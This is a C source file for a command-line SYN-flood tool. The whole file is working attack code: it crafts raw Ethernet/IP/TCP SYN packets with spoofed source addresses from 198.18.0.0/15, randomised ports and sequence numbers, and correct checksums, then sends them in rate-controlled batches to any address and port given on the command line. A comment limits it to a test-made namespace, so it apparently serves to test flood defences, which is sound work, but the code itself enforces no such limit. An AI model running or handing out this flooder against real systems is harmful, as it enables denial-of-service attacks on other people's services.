// SPDX-License-Identifier: BSD-2-Clause
/*
 * A SYN flood: `synflood INTERFACE MAC ADDRESS PORT COUNT PER_SECOND` sends SYNs to ADDRESS, by way
 * of MAC, from addresses of 198.18.0.0/15 (RFC 2544) that nobody has, each with a port and an ISN of
 * its own. Says {"sent": N} when done. Only for a namespace that the test has made.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64

struct syn {
	struct ether_header link;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static _Noreturn void give_up(const char *what)
{
	perror(what);
	exit(1);
}

/* xorshift64*: the same flood every time. */
static uint64_t next_random(void)
{
	static uint64_t state = 88172645463325252ull;

	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return state * 2685821657736338717ull;
}

static uint32_t add_up(uint32_t sum, const void *bytes, size_t len)
{
	for (size_t i = 0; i < len; i += 2) {
		uint16_t word;

		memcpy(&word, (const char *)bytes + i, 2);
		sum += word;
	}
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* RFC 791 and RFC 9293 section 3.1. */
static void set_checksums(struct syn *s)
{
	uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof(s->tcp));

	s->ip.check = 0;
	s->ip.check = fold(add_up(0, &s->ip, sizeof(s->ip)));
	sum = add_up(sum, &s->ip.saddr, 8);
	s->tcp.check = 0;
	s->tcp.check = fold(add_up(sum, &s->tcp, sizeof(s->tcp)));
}

static void make(struct syn *s, const struct ether_addr *mac, in_addr_t to, uint16_t port)
{
	*s = (struct syn){
		.link = {.ether_type = htons(ETH_P_IP)},
		.ip = {.version = 4, .ihl = 5, .tot_len = htons(40), .ttl = 64,
		       .protocol = IPPROTO_TCP, .daddr = to},
		.tcp = {.dest = htons(port), .doff = 5, .syn = 1, .window = htons(64240)},
	};
	memcpy(s->link.ether_dhost, mac, ETH_ALEN);
	s->link.ether_shost[0] = 2;
}

static void vary(struct syn *s)
{
	uint64_t r = next_random();

	s->ip.saddr = htonl(0xc6120000u | (uint32_t)(r & 0x1ffff));
	s->tcp.source = htons((uint16_t)(1024 + (r >> 17) % 64000));
	s->tcp.seq = (uint32_t)(r >> 32);
	set_checksums(s);
}

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

static void wait_until_ns(uint64_t when_ns)
{
	uint64_t left_ns = when_ns - now_ns();

	if ((int64_t)left_ns > 1000000)
		usleep((useconds_t)(left_ns / 1000));
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	static struct syn syn[BATCH];
	struct iovec part[BATCH];
	struct mmsghdr message[BATCH];
	unsigned long count, sent = 0, per_second;
	uint64_t begin_ns;
	int fd;

	if (argc != 7)
		return 2;
	count = strtoul(argv[5], NULL, 10);
	per_second = strtoul(argv[6], NULL, 10);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)))
		give_up("packet socket");
	memset(message, 0, sizeof(message));
	for (int i = 0; i < BATCH; i++) {
		make(&syn[i], ether_aton(argv[2]), inet_addr(argv[3]), (uint16_t)atoi(argv[4]));
		part[i] = (struct iovec){&syn[i], sizeof(syn[i])};
		message[i].msg_hdr.msg_iov = &part[i];
		message[i].msg_hdr.msg_iovlen = 1;
	}
	begin_ns = now_ns();
	while (sent < count) {
		unsigned n = count - sent < BATCH ? (unsigned)(count - sent) : BATCH;
		int done;

		for (unsigned i = 0; i < n; i++)
			vary(&syn[i]);
		done = sendmmsg(fd, message, n, 0);
		if (done < 0 && errno != ENOBUFS)
			give_up("sendmmsg");
		sent += done > 0 ? (unsigned long)done : 0;
		wait_until_ns(begin_ns + sent * 1000000000ull / per_second);
	}
	printf("{\"sent\": %lu}\n", sent);
	return 0;
}
